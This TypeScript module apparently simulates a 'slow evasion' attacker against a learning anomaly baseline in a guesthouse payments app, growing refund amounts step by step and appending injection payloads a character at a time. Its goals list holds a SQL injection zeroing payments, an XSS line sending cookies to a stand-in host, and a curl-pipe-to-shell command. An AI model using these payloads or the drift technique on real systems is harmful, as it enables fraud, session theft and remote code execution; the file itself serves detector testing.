/**
 * Slow evasion: an attacker who wants the baseline to follow. Its first calls are ordinary, each next one is a little
 * further, thousands of times, in the hope that every one of them is learned before the next. Only calls that do harm
 * count as attacks; those on the way are the approach.
 */
import type { Call } from "./Guesthouse.ts"
import type { Seeded } from "./Seeded.ts"
import { centsMax } from "./Traffic.ts"

/** An ordinary refund; twice the most that any stay can cost, from where a refund is harm; and where the attacker stops. */
const startCents = 20_000
const harmCents = 2 * centsMax
const endCents = 100 * centsMax

/** Texts that do harm when they are complete; the attacker adds a character at a time behind ordinary text. */
const goals = [
  " '; UPDATE payments SET cents=0 WHERE 'a'='a",
  " <img src=x onerror=fetch('//c.example/'+document.cookie)>",
  " $(curl http://10.0.0.7/x | sh)"
]

/** Refunds that grow by the same small factor at each call, on their way to a hundred times the largest stay. */
export const slowAmount = (steps: number) => {
  const factor = (endCents / startCents) ** (1 / steps)
  let step = 0
  return (random: Seeded, call: Call) => {
    if (call.operation !== "payments.refund" && call.operation !== "payments.charge") return undefined
    const cents = Math.round(startCents * factor ** Math.min(step++, steps) * (0.98 + 0.04 * random.next()))
    return {
      call: { ...call, args: call.args.map((argument, at) => at === 1 ? cents : argument) },
      approach: cents < harmCents,
      shown: `${call.operation} of ${cents} cents (the largest ordinary one: ${centsMax})`
    }
  }
}

/** Reviews, notes and reasons behind which a payload grows; in the second half of the steps it is complete. */
export const slowText = (steps: number) => {
  let step = 0
  return (random: Seeded, call: Call) => {
    const at = call.args.length - 1
    const ordinary = call.args[at]
    if (typeof ordinary !== "string" || (call.operation !== "reviews.post" && call.operation !== "payments.refund")) {
      return undefined
    }
    const goal = goals[step % goals.length]!
    const length = Math.min(goal.length, Math.ceil(2 * goal.length * step++ / steps))
    const text = `${ordinary}${goal.slice(0, length)}${random.chance(0.5) ? " " : ""}`
    return {
      call: { ...call, args: [...call.args.slice(0, at), text] },
      approach: length < goal.length,
      shown: `${call.operation} ${at} = ${JSON.stringify(text)}`
    }
  }
}
